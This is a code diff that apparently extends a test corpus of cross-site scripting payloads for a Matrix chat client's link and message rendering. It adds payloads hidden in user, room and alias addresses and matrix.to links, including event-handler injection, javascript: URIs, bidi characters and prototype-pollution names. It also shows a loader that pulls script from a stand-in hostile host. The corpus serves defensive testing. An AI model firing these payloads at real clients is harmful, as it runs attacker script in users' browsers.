@@ -72,6 +72,29 @@ const byScheme = schemes.flatMap((url) => [
   `<img src="${url}">`,
 ]);
 
+/** Links to people, rooms and messages, which are drawn and opened here. */
+const inAddresses = [
+  `@<svg onload=${run}>:a.org`,
+  `@"onmouseover="${run}":a.org`,
+  `@a:a.org"><img src=x onerror=${run}>`,
+  `@javascript:${run}`,
+  `@\u202ea\u2066:a.org`,
+  `@__proto__:a.org`,
+  `#<img src=x onerror=${run}>:a.org`,
+  `!<script>${run}</script>:a.org`,
+  `!a:a.org/$<img src=x onerror=${run}>`,
+  `!a:a.org?via=${evil}/&via="onclick="${run}`,
+  `!a:a.org/$e?via=a.org%22%3E%3Cimg%20src=x%20onerror=${run}%3E&via=javascript:${run}`,
+  `!a:a.org?action=${run}&via=<img src=x onerror=${run}>`,
+];
+const byAddress = inAddresses.flatMap((address) => [
+  `<a href="https://matrix.to/#/${encodeURIComponent(address)}">a</a>`,
+  `<a href='https://matrix.to/#/${address}'>a</a>`,
+  `<a href="matrix:u/${encodeURIComponent(address.slice(1))}">@a</a>`,
+  `<a href='matrix:roomid/${address.slice(1)}'>a</a>`,
+  `matrix:r/${address.slice(1)} https://matrix.to/#/${address}`,
+]);
+
 const loaders = [
   `<script>${run}</script>`,
   `<script src=${evil}/a.js></script>`,
@@ -253,6 +276,7 @@ const clobbering = (
 export const payloads: readonly string[] = [
   ...byHandler,
   ...byScheme,
+  ...byAddress,
   ...loaders,
   ...foreign,
   ...mutations,
